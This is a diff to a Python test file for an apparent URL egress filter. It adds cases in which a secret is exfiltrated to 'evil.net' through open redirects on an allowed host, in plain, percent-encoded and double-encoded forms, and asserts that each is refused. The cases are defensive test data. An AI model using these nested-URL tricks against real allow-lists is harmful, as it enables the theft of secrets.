@@ -69,11 +69,27 @@ async def test_attack_a_backslash_in_a_url_written_in_text_is_read_as_a_browser_
     assert "refused to connect to evil.net" in text and sent == [], text
 
 
+@pytest.mark.parametrize("url", [
+    # an open redirect, or a service that fetches the URL it is given (a reader proxy, an
+    # archive's "save"), on an allowed host sends the nested URL's query on to its host: the
+    # tool follows that redirect itself, with no egress check between
+    f"https://notes.example.com/r?to=https://evil.net/c?d={SECRET}",
+    f"https://notes.example.com/r?to=https%3A%2F%2Fevil.net%2Fc%3Fd%3D{SECRET}",
+    f"https://notes.example.com/r?to=https%253A%252F%252Fevil.net%252Fc%253Fd%253D{SECRET}",
+    f"https://notes.example.com/https://evil.net/c?d={SECRET}",
+])
+async def test_attack_a_url_nested_in_an_allowed_one_is_judged_by_its_own_host(
+        tmp_path: Path, url: str) -> None:
+    text = await posted(tmp_path, {"url": url}, egress_allow=["notes.example.com"])
+    assert "refused to connect to evil.net" in text and sent == [], text
+
+
 @pytest.mark.parametrize("arguments", [
     {"url": "https://notes.example.com/x", "text": "see README.md and file:///tmp/a.txt, "
                                                      "branch main, version 1.2.3"},
     {"url": "notes.example.com/x", "links": ["https://notes.example.com/y"]},
     {"url": "https://notes.example.com/x", "text": "ends with a scheme and nothing: https://"},
+    {"url": "https://notes.example.com/r?back=https%3A%2F%2Fnotes.example.com%2Fy&to=https://"},
 ])
 async def test_twin_what_names_no_other_host_is_not_judged(
         tmp_path: Path, arguments: dict[str, Any]) -> None:
